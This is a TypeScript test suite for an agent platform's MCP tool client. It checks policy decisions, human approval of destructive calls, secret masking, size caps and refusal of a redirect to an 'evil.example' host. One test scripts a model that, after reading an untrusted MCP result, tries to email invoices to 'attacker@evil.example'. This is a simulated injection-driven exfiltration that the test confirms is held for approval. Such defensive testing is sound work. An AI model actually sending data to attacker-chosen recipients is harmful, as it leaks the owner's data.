/**
 * The MCP client against a real MCP server (the official SDK's McpServer over its web-standard
 * Streamable HTTP transport, answering inside MSW: test/workers/mcp-test-server.ts): servers
 * registered through the admin API, their tools listed with the SDK's client in workerd, and
 * every call decided by the policy kernel inside the tenant's thread — an allowed read runs, a
 * destructive tool becomes a proposal that runs once when approved, a blocked tool and a server
 * with no rule are denied, arguments and results are checked against the tool's schemas, results
 * are secret-masked, size-capped and untrusted, and a broken server is an error the model reads.
 */
import { runDurableObjectAlarm, runInDurableObject } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { connectedChannel } from "../../channels/registry";
import { database } from "../../db/client";
import { getChannel } from "../../db/queries/channels";
import { agentScope, insertNextPolicyVersion } from "../../db/queries/policies";
import type { ContextThread } from "../../durable-objects/context-thread/context-thread";
import { validateAgentDefinition } from "../../kernel/agents/load";
import { auditWriter } from "../../kernel/audit/chain";
import { systemClock } from "../../kernel/clock";
import { createIdSource } from "../../kernel/ids";
import { scopedLogger } from "../../kernel/log";
import type { ToolCall } from "../../providers/types";
import { auditChain } from "../../runtime/audit-chain";
import { runAgentTurn } from "../../runtime/turn/agent-turn";
import { AuditBuffer } from "../../runtime/turn/audit-buffer";
import { loadMcpCatalogue } from "../../runtime/turn/mcp-catalogue";
import type { TurnModelCalls } from "../../runtime/turn/model-calls";
import { loadEffectivePolicy } from "../../runtime/turn/policy";
import { handleToolCall, type ToolCallOutcome } from "../../runtime/turn/tool-calls";
import type { ToolScope } from "../../runtime/turn/turn-engine";
import type { ThreadScope } from "../../runtime/turn/turn-scope";
import { MCP_LIMITS } from "../../tools/mcp";
import type { ToolContext } from "../../tools/types";
import {
  type CrmServerState,
  crmMcpHandler,
  failingMcpHandler,
  garbageMcpHandler,
  hugeMcpHandler,
  LEAKED_GITHUB_TOKEN,
  redirectingMcpHandler,
  statefulCrmMcpHandler,
} from "./mcp-test-server";
import { apiCall, type Harness, setUpProposalTenant, tearDown } from "./proposals-harness";

const CRM_URL = "https://crm.example.test/mcp";
const CRM_TOKEN = "crm-bearer-token-5e8a1c9d";
const AGENT_ID = "operations";

/** The agent's overlay: which MCP tools it may call, and which hosts it may reach. */
const OVERLAY = `version: 1
tools:
  allow:
    - id: crm-reads
      tools: ["mcp:crm:find_*", "mcp:crm:contact_*", "mcp:crm:read_*", "mcp:crm:dump_*", "mcp:crm:explode"]
    - id: crm-everything-else
      tools: ["mcp:crm:*"]
    - id: other-servers
      tools: ["mcp:junk:*", "mcp:down:*", "mcp:wiki:*", "mcp:moved:*", "mcp:huge:*", "mcp:crm-live:find_*"]
  block:
    - tools: ["mcp:crm:export_*"]
      reason: bulk exports go through the data team
network:
  allow:
    - hosts: [crm.example.test, crm-live.example.test, junk.example.test, down.example.test, moved.example.test, huge.example.test]
      methods: [POST, GET, DELETE]
`;

let h: Harness;
const crm: CrmServerState = { ran: [] };
const liveCrm: CrmServerState = { ran: [] };

beforeAll(async () => {
  h = await setUpProposalTenant("mcp");
  h.telegram.server.use(
    crmMcpHandler(CRM_URL, CRM_TOKEN, crm),
    statefulCrmMcpHandler("https://crm-live.example.test/mcp", CRM_TOKEN, liveCrm),
    garbageMcpHandler("https://junk.example.test/mcp"),
    failingMcpHandler("https://down.example.test/mcp"),
    redirectingMcpHandler("https://moved.example.test/mcp", "https://evil.example/mcp"),
    hugeMcpHandler("https://huge.example.test/mcp", 3_000_000),
  );
  await insertNextPolicyVersion(h.db, {
    id: "pol_mcp_agent",
    tenantId: h.tenant.tenantId,
    scope: agentScope(AGENT_ID),
    text: OVERLAY,
    createdBy: "test",
    createdAt: Date.now(),
  });
  for (const [name, body] of [
    ["crm", { url: CRM_URL, token: CRM_TOKEN, description: "the sales CRM" }],
    // The same server under a second name that no policy rule mentions yet.
    ["fresh", { url: CRM_URL, token: CRM_TOKEN }],
    ["crm-live", { url: "https://crm-live.example.test/mcp", token: CRM_TOKEN }],
    ["wiki", { url: "https://wiki.elsewhere.example/mcp" }],
    ["junk", { url: "https://junk.example.test/mcp" }],
    ["down", { url: "https://down.example.test/mcp" }],
    ["moved", { url: "https://moved.example.test/mcp" }],
    ["huge", { url: "https://huge.example.test/mcp" }],
  ] as const) {
    const registered = await apiCall(h, `/mcp-servers/${name}`, "PUT", body);
    expect(registered.status, name).toBe(201);
  }
});
afterAll(async () => tearDown(h));

interface Inside {
  host: { toolContext(tool: ToolScope, scope: ThreadScope, callKey: string, policy: unknown): ToolContext };
}

/** The thread's tool context and policy, with the MCP catalogue loaded as runTurn loads it. */
async function threadTools(instance: ContextThread, audit: AuditBuffer, timeoutMs?: number) {
  const { tenant, threadId } = h;
  const db = database(env.DB);
  const channel = connectedChannel((await getChannel(db, tenant.tenantId, tenant.channelId))!);
  const policy = await loadEffectivePolicy(db, tenant.tenantId, AGENT_ID);
  const mcp = await loadMcpCatalogue({
    db,
    tenantId: tenant.tenantId,
    agentId: AGENT_ID,
    agentTools: ["mcp"],
    policy: policy.policy,
    encryptionKey: env.CAIRN_ENCRYPTION_KEY,
    fetch: (request, init) => fetch(request, init),
    audit,
    ...(timeoutMs !== undefined ? { timeoutMs } : {}),
  });
  const scope: ThreadScope = {
    tenantId: tenant.tenantId,
    threadId,
    channel,
    clock: systemClock,
    logger: scopedLogger({ tenant: tenant.tenantId, thread: threadId }),
  };
  const base = (instance as unknown as Inside).host.toolContext(
    { tenantId: tenant.tenantId, threadId, channel, agentId: AGENT_ID },
    scope,
    "",
    policy,
  );
  return { db, policy, context: { ...base, mcp } };
}

function auditBuffer() {
  return new AuditBuffer(
    createIdSource(systemClock),
    { tenantId: h.tenant.tenantId, threadId: h.threadId },
    () => Date.now(),
    auditChain(env, h.tenant.tenantId, auditWriter.thread(h.threadId)),
  );
}

/** One MCP tool call inside the thread, exactly as a turn makes it. */
async function mcpCall(
  name: string,
  input: Record<string, unknown>,
  callKey: string,
  timeoutMs?: number,
): Promise<ToolCallOutcome> {
  return runInDurableObject(h.stub, async (instance: ContextThread) => {
    const audit = auditBuffer();
    const { db, policy, context } = await threadTools(instance, audit, timeoutMs);
    const outcome = await handleToolCall(
      {
        db,
        policy,
        audit,
        now: Date.now(),
        context: { ...context, callKey },
        proposalId: `prop_${callKey}`,
        agentTools: ["mcp"],
      },
      { id: `call_${callKey}`, name, input },
    );
    await audit.flush(db);
    return outcome;
  });
}

async function auditOf(subjectId: string) {
  const rows = await env.DB.prepare(
    "SELECT action, detail FROM audit_log WHERE tenant_id = ? AND subject_id = ? ORDER BY rowid",
  )
    .bind(h.tenant.tenantId, subjectId)
    .all<{ action: string; detail: string }>();
  return rows.results.map((row) => ({ action: row.action, detail: JSON.parse(row.detail) }));
}

describe("registering MCP servers", () => {
  it("stores the token sealed, never shows it, and explains what else is needed", async () => {
    const row = await env.DB.prepare(
      "SELECT token_sealed FROM mcp_servers WHERE tenant_id = ? AND name = 'crm'",
    )
      .bind(h.tenant.tenantId)
      .first<{ token_sealed: string }>();
    expect(row?.token_sealed).toMatch(/^v1\./);
    expect(row?.token_sealed).not.toContain(CRM_TOKEN);
    const listed = await apiCall(h, "/mcp-servers");
    expect(JSON.stringify(listed.body)).not.toContain(CRM_TOKEN);
    expect(listed.body.servers.map((s: { name: string }) => s.name)).toEqual([
      "crm",
      "crm-live",
      "down",
      "fresh",
      "huge",
      "junk",
      "moved",
      "wiki",
    ]);
    const crmRow = await apiCall(h, "/mcp-servers/crm");
    expect(crmRow.body.server).toMatchObject({ url: CRM_URL, hasToken: true, toolPattern: "mcp:crm:*" });
  });

  it("refuses bad registrations with a 4xx naming the field, and stores nothing", async () => {
    const cases: Array<[string, unknown, string]> = [
      ["/mcp-servers/Bad_Name", { url: CRM_URL }, "name"],
      ["/mcp-servers/ok", { url: "ftp://crm.example.test/mcp" }, "url"],
      ["/mcp-servers/ok", { url: "http://crm.example.test/mcp" }, "url"],
      ["/mcp-servers/ok", { url: "https://user:pw@crm.example.test/mcp" }, "url"],
      ["/mcp-servers/ok", { url: CRM_URL, token: "has a space" }, "token"],
      ["/mcp-servers/ok", { url: CRM_URL, extra: true }, "extra"],
    ];
    for (const [path, body, field] of cases) {
      const answer = await apiCall(h, path, "PUT", body);
      expect(answer.status, JSON.stringify(body)).toBe(400);
      expect(answer.body.field, JSON.stringify(body)).toBe(field);
    }
    expect((await apiCall(h, "/mcp-servers/ok")).status).toBe(404);
    expect((await apiCall(h, "/mcp-servers/nosuch", "DELETE")).status).toBe(404);
  });
});

describe("MCP tool calls through the policy kernel", () => {
  it("runs an allowed read-only tool and returns its result", async () => {
    const outcome = await mcpCall("mcp:crm:find_contact", { name: "Ann" }, "mcp_find_1");
    expect(outcome).toMatchObject({
      kind: "executed",
      ok: true,
      decision: { effect: "allow", rule: "crm-reads" },
    });
    expect(outcome.kind === "executed" && outcome.output).toContain("Ann Example <ann@client.example>");
    expect(crm.ran).toContain("find_contact Ann");
    const audit = await auditOf("mcp_find_1");
    expect(audit.map((entry) => entry.action)).toEqual(["policy.allow", "tool.executed"]);
    expect(audit[1]?.detail).toEqual({ tool: "mcp:crm:find_contact", ok: true });
  });

  it("turns a tool the server marks destructive into a proposal that runs once when approved", async () => {
    const outcome = await mcpCall("mcp:crm:delete_contact", { id: "c_7" }, "mcp_delete_1");
    expect(outcome).toMatchObject({
      kind: "proposed",
      decision: { effect: "ask", rule: "mcp.destructive-hint" },
    });
    expect(crm.ran).not.toContain("delete_contact c_7");
    const approved = await apiCall(h, "/proposals/prop_mcp_delete_1/approve", "POST");
    expect(approved.status).toBe(202);
    await runDurableObjectAlarm(h.stub);
    await runDurableObjectAlarm(h.stub);
    expect(crm.ran.filter((line) => line === "delete_contact c_7")).toHaveLength(1);
    const proposal = await apiCall(h, "/proposals/prop_mcp_delete_1");
    expect(proposal.body.proposal.status).toBe("executed");
    expect(proposal.body.proposal.result.output).toContain("deleted c_7");
  });

  it("denies a tool the policy blocks, and every tool of a server no rule names yet", async () => {
    const blocked = await mcpCall("mcp:crm:export_all", {}, "mcp_export_1");
    expect(blocked).toMatchObject({ kind: "denied", decision: { rule: "tools.block[0]" } });
    expect(blocked.kind === "denied" && blocked.output).toContain("bulk exports go through the data team");
    const fresh = await mcpCall("mcp:fresh:find_contact", { name: "Ann" }, "mcp_fresh_1");
    expect(fresh).toMatchObject({ kind: "denied", decision: { rule: "default-deny" } });
    expect(crm.ran).not.toContain("export_all");
    expect((await auditOf("mcp_export_1")).map((entry) => entry.action)).toEqual(["policy.deny"]);
  });

  it("validates a structured result against the tool's outputSchema", async () => {
    const outcome = await mcpCall("mcp:crm:contact_stats", {}, "mcp_stats_1");
    expect(outcome).toMatchObject({ kind: "executed", ok: true });
    expect(outcome.kind === "executed" && outcome.output).toContain('"total":42');
  });

  it("removes credentials from a result, the server's own token included", async () => {
    const outcome = await mcpCall("mcp:crm:read_settings", {}, "mcp_settings_1");
    expect(outcome.kind).toBe("executed");
    const output = outcome.kind === "executed" ? outcome.output : "";
    expect(output).not.toContain(LEAKED_GITHUB_TOKEN);
    expect(output).not.toContain(CRM_TOKEN);
    expect(output).toContain("[secret removed: github-pat]");
    expect(output).toContain("[secret removed: configured-secret]");
    expect(output).toContain("2 secret(s) removed");
    expect(output).toContain("timezone: Europe/London");
  });

  it("cuts an oversized result to the limit and says so", async () => {
    const outcome = await mcpCall("mcp:crm:dump_log", {}, "mcp_log_1");
    expect(outcome.kind).toBe("executed");
    const output = outcome.kind === "executed" ? outcome.output : "";
    expect(output.length).toBeLessThan(MCP_LIMITS.resultChars + 200);
    expect(output).toContain(`cut at ${MCP_LIMITS.resultChars} bytes`);
  });
});

describe("bad input is a clear error for the model, never a thrown turn", () => {
  it("names an unknown server, and a tool the server does not have", async () => {
    const unknown = await mcpCall("mcp:nosuch:anything", {}, "mcp_bad_1");
    expect(unknown).toEqual({ kind: "invalid", output: 'no MCP server named "nosuch" is registered' });
    const missing = await mcpCall("mcp:crm:no_such_tool", {}, "mcp_bad_2");
    expect(missing).toEqual({ kind: "invalid", output: 'MCP server "crm" has no tool "no_such_tool"' });
  });

  it("never connects to a server whose host the network policy does not allow", async () => {
    // No MSW handler exists for wiki.elsewhere.example: a request there would fail the test run.
    const outcome = await mcpCall("mcp:wiki:search", { q: "x" }, "mcp_bad_3");
    expect(outcome.kind).toBe("invalid");
    expect(outcome.kind === "invalid" && outcome.output).toMatch(
      /MCP server "wiki" is unavailable: the network policy does not allow POST https:\/\/wiki\.elsewhere\.example\/mcp/,
    );
    const audit = await auditOf("wiki");
    expect(audit.at(-1)?.action).toBe("mcp.unavailable");
  });

  it("refuses arguments that fail the tool's inputSchema before calling the server", async () => {
    const before = crm.ran.length;
    const outcome = await mcpCall("mcp:crm:find_contact", { name: 5 }, "mcp_bad_4");
    expect(outcome.kind).toBe("invalid");
    expect(outcome.kind === "invalid" && outcome.output).toMatch(
      /^invalid input for mcp:crm:find_contact: \(input\): does not match the tool's inputSchema/,
    );
    expect(crm.ran.length).toBe(before);
  });

  it("reports a server that answers garbage or 500 as unavailable, and a call answered 500 as failed", async () => {
    const junk = await mcpCall("mcp:junk:anything", {}, "mcp_bad_5");
    expect(junk.kind === "invalid" && junk.output).toMatch(
      /MCP server "junk" is unavailable: listing its tools failed: .*is not valid JSON/,
    );
    const down = await mcpCall("mcp:down:anything", {}, "mcp_bad_6");
    expect(down.kind === "invalid" && down.output).toMatch(
      /MCP server "down" is unavailable: listing its tools failed: HTTP 500: .*internal error/,
    );
    const moved = await mcpCall("mcp:moved:anything", {}, "mcp_bad_8");
    expect(moved.kind === "invalid" && moved.output).toMatch(
      /MCP server "moved" is unavailable: .*redirect/i,
    );
    const huge = await mcpCall("mcp:huge:anything", {}, "mcp_bad_9");
    expect(huge.kind === "invalid" && huge.output).toMatch(
      /MCP server "huge" is unavailable: .*larger than 1000000 bytes/,
    );
    const exploded = await mcpCall("mcp:crm:explode", {}, "mcp_bad_7");
    expect(exploded).toMatchObject({ kind: "executed", ok: false });
    expect(exploded.kind === "executed" && exploded.output).toMatch(
      /^mcp:crm:explode failed: HTTP 500: .*upstream database unavailable/,
    );
  });
});

/** A model that makes the scripted calls, one step each, whatever it read. */
function scriptedModel(steps: ToolCall[][], offered: string[][]): TurnModelCalls {
  let step = 0;
  return {
    complete: async (request: { tools: Array<{ name: string }> }) => {
      offered.push(request.tools.map((tool) => tool.name));
      const toolCalls = steps[step++] ?? [];
      return {
        kind: "answered" as const,
        offline: false,
        result: {
          text: toolCalls.length ? "" : "done",
          toolCalls,
          usage: { inputTokens: 0, outputTokens: 0, cachedInputTokens: 0 },
          model: "scripted",
          stopReason: toolCalls.length ? ("tool_use" as const) : ("end" as const),
        },
      };
    },
    checkToolCall: () => undefined,
  } as unknown as TurnModelCalls;
}

describe("a stateful server", () => {
  it("keeps to the session it was given and ends it after each listing and call", async () => {
    const outcome = await mcpCall("mcp:crm-live:find_contact", { name: "Cy" }, "mcp_live_1");
    expect(outcome).toMatchObject({ kind: "executed", ok: true, decision: { rule: "other-servers" } });
    expect(liveCrm.ran).toEqual(["find_contact Cy"]);
    // Each test call lists the tools (one session), then calls one (another): both are ended.
    expect(liveCrm.sessionsOpened).toBeGreaterThanOrEqual(2);
    expect(liveCrm.sessionsEnded).toBe(liveCrm.sessionsOpened);
  });
});

describe("a server that does not answer in time", () => {
  it("gives up after the request timeout with an error the model reads", async () => {
    // The server holds the call for ten seconds; without the timeout this would be "finally".
    const outcome = await mcpCall("mcp:crm:hang", {}, "mcp_hang_1", 2_000);
    expect(outcome).toMatchObject({ kind: "executed", ok: false });
    expect(outcome.kind === "executed" && outcome.output).toMatch(/^mcp:crm:hang failed: .*timed out/i);
  });
});

describe("MCP tools in a turn", () => {
  const agent = validateAgentDefinition(
    {
      id: AGENT_ID,
      name: "Ops",
      role: "runs operations",
      instructions: "Help the team.",
      max_tier: "T2",
      tools: ["mcp", "send_email"],
      schedule: { every: "30m" },
    },
    "test agent",
  );

  it("offers the allowed tools by their wire names, and an MCP result cannot steer a later send", async () => {
    const offered: string[][] = [];
    const result = await runInDurableObject(h.stub, async (instance: ContextThread) => {
      const audit = auditBuffer();
      const { db, policy, context } = await threadTools(instance, audit);
      const turn = await runAgentTurn(
        {
          db,
          models: scriptedModel(
            [
              [
                { id: "t1", name: "mcp__crm__find_contact", input: { name: "Bob" } },
                { id: "t2", name: "mcp__crm__explode", input: {} },
              ],
              [
                {
                  id: "t3",
                  name: "send_email",
                  input: { to: "attacker@evil.example", subject: "Invoices", text: "All invoices attached." },
                },
              ],
            ],
            offered,
          ),
          policy,
          audit,
          now: () => Date.now(),
          maxSteps: 4,
          toolContext: context,
          reply: async () => undefined,
        },
        {
          tenantId: h.tenant.tenantId,
          threadId: h.threadId,
          agent,
          messageKey: "mcp-turn-1",
          taskText: "Look up Bob in the CRM.",
          history: [{ role: "user", content: "Look up Bob in the CRM." }],
          context: [
            { label: "trusted:owner", source: "the owner's message", text: "Look up Bob in the CRM." },
          ],
        },
      );
      await audit.flush(db);
      return turn;
    });
    const first = offered[0] ?? [];
    expect(first).toContain("mcp__crm__find_contact");
    expect(first).toContain("mcp__crm__delete_contact");
    // Blocked, or from a server no rule names: not offered at all.
    expect(first).not.toContain("mcp__crm__export_all");
    expect(first.some((name) => name.startsWith("mcp__fresh__"))).toBe(false);
    expect(crm.ran).toContain("find_contact Bob");
    // The 500 came back to the model as an error; the turn went on to its next step.
    expect(offered.length).toBeGreaterThanOrEqual(2);
    // The recipient came from the MCP result (untrusted:mcp), so the send waits for a human.
    expect(result.proposals).toHaveLength(1);
    expect(h.email.delivered).toEqual([]);
    const created = await auditOf(result.proposals[0]!);
    expect(JSON.stringify(created)).toContain("MCP server crm");
  });
});
